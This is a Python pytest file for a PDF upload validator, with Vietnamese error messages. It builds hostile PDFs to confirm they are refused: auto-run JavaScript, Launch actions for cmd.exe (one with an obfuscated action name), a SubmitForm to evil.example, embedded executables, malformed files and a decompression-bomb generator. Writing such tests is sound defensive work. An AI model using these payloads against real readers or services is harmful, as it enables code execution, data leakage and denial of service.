"""PDFs that are locked, active, endless, or come to grief in the process that opens them."""

import io
import struct
import zlib

import pikepdf
import pytest

from papers.uploads import MEGABYTE, read_upload
from tests import make
from tests.papers.uploads.test_receiving import LIMIT, why_not

FILE = "<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream"
FILES = "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a)/EF<</F 4 0 R>>>>]>>>>"
RUN = "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"


def locked(password: str) -> bytes:
    held = io.BytesIO()
    with pikepdf.open(io.BytesIO(make.PDF)) as pdf:
        pdf.save(held, encryption=pikepdf.Encryption(owner="chu", user=password))
    return held.getvalue()


@pytest.mark.parametrize("password", ["mo", ""])
def test_a_locked_pdf_is_refused(password):
    assert "khóa" in why_not(make.upload("khoa.pdf", locked(password)))


@pytest.mark.parametrize(
    "content",
    [
        make.pdf(catalogue=RUN),
        make.pdf(1, "<</S/JavaScript/JS 5 0 R>>", "(1)", catalogue="/OpenAction 4 0 R"),
        make.pdf(catalogue="/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"),
        make.pdf(catalogue="/AA<</WC<</S/JavaScript/JS(1)>>>>"),
        make.pdf(catalogue="/OpenAction<</S/Launch/F(cmd.exe)>>"),
        make.pdf(catalogue="/OpenAction<</S/#4Caunch/F(cmd.exe)>>"),
        make.pdf(catalogue="/OpenAction<</S/SubmitForm/F(https://evil.example)>>"),
        make.pdf(1, FILE, catalogue=FILES),
        make.pdf(catalogue="/AcroForm<</Fields[]/XFA(x)>>"),
        make.pdf(1, "<</Type/Annot/Subtype/RichMedia>>"),
    ],
)  # fmt: skip
def test_a_pdf_that_does_something_is_refused(content):
    assert "tệp PDF" in why_not(make.upload("dong.pdf", content))
    assert "bị hỏng" not in why_not(make.upload("dong.pdf", content))


def test_what_is_hidden_in_a_packed_object_is_found():
    held = io.BytesIO()
    with pikepdf.open(io.BytesIO(make.pdf(catalogue=RUN))) as pdf:
        pdf.save(held, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in held.getvalue()
    why_not(make.upload("giau.pdf", held.getvalue()))


def test_a_link_to_the_web_is_taken():
    link = "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://thainguyen.gov.vn)>>>>"
    assert read_upload(make.upload("noi.pdf", make.pdf(1, link)), max_bytes=LIMIT)


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n%%EOF\n",
        b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n",
        make.pdf(pages=0),
        make.PDF[:60] + b"%%EOF\n",
        b"%PDF-1.7\n" + b"\xff" * 5000 + b"%%EOF\n",
        make.PDF.replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
        make.PDF.replace(b"startxref", b"startxxxx"),
        make.PDF[: make.PDF.index(b"xref")] + b"trailer\n<</Root 1 0 R/Size 4>>\n%%EOF\n",
    ],
)
def test_a_pdf_that_every_reader_would_read_otherwise_is_refused(content):
    why_not(make.upload("hong.pdf", content))


def test_a_pdf_of_too_many_pages_is_refused(settings):
    settings.UPLOAD_MAX_PAGES = 3
    assert read_upload(make.upload("ba.pdf", make.pdf(pages=3)), max_bytes=LIMIT)
    sentence = why_not(make.upload("bon.pdf", make.pdf(pages=4)))
    assert ("4" in sentence, "3" in sentence) == (True, True)


def packed_bomb(size: int) -> bytes:
    """A packed object that unfolds to `size`: whoever wants one of its objects unfolds it all."""
    pack = zlib.compressobj(9)
    body = pack.compress(b"6 0 <<>>")
    body += b"".join(pack.compress(b" " * MEGABYTE) for _ in range(size // MEGABYTE)) + pack.flush()
    head = f"/Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(body)}"
    content = make.pdf(
        1, f"<<{head}>>\nstream\n{body.decode('latin-1')}\nendstream", catalogue="/Extra 6 0 R"
    )
    # The table of a packed object is an object itself, the fifth.
    content, start = content[: content.rindex(b"xref\n0")], content.rindex(b"xref\n0")
    places = [content.index(b"%d 0 obj" % number) for number in (1, 2, 3, 4)] + [start]
    rows = b"\0" * 7 + b"".join(struct.pack("!BIH", 1, place, 0) for place in places)
    rows += struct.pack("!BIH", 2, 4, 0)
    head = f"/Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length {len(rows)}"
    table = f"5 0 obj\n<<{head}>>\nstream\n".encode() + rows + b"\nendstream\nendobj\n"
    return content + table + f"startxref\n{start}\n%%EOF\n".encode()


def test_a_pdf_that_takes_too_much_memory_is_refused(settings):
    assert read_upload(make.upload("vua.pdf", packed_bomb(2 * MEGABYTE)), max_bytes=LIMIT)
    why_not(make.upload("to.pdf", packed_bomb(800 * MEGABYTE)))


def test_a_pdf_that_takes_too_long_is_refused(settings):
    settings.UPLOAD_PDF_SECONDS = 1
    why_not(make.upload("lau.pdf", make.pdf(1, *["<</A[[[1]]]/B<</C 1>>>>"] * 150_000)))
